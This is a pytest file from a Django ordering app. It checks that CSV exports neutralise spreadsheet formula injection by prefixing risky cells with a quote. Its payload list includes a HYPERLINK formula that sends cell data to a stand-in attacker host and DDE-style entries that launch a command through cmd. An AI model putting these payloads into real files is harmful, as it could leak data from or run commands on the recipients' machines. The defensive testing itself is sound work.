"""Every CSV Orderly writes neutralises text a spreadsheet would run as a formula (OWASP):
a cell that starts with =, +, -, @, a tab or a CR gets a leading '."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from config.csv import csv_writer
from notifications import services as notification_services
from orders.models import Order
from orders.services.transitions import order_transition
from tests.factories import UserFactory, place_order
from tests.orders.staff_helpers import role_member

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_helper_prefixes_a_formula_cell_and_leaves_numbers_and_plain_text(payload):
    out = io.StringIO()
    csv_writer(out).writerow([payload, "Ada", Decimal("-2.50"), -3, None, "a-b"])
    assert _rows(out.getvalue()) == [["'" + payload, "Ada", "-2.50", "-3", "", "a-b"]]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_customer_name_like_a_formula_reaches_the_staff_export_as_text(client, payload):
    place_order(user=UserFactory(name=payload))
    client.force_login(role_member("staff"))
    response = client.get("/admin/orders/order/export.csv")
    assert response.status_code == 200
    header, row = _rows(b"".join(response.streaming_content).decode())
    assert row[header.index("contact name")] == "'" + payload


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_daily_sales_report_writes_its_cells_through_the_helper(monkeypatch, payload):
    order_transition(order=place_order(), to=Order.Status.PAID, by=None)
    monkeypatch.setattr(notification_services, "tax_label", lambda **kwargs: payload)
    text, count, _ = notification_services.daily_report_csv(day=timezone.localdate())
    assert count == 1
    assert _rows(text)[1][-1] == "'" + payload
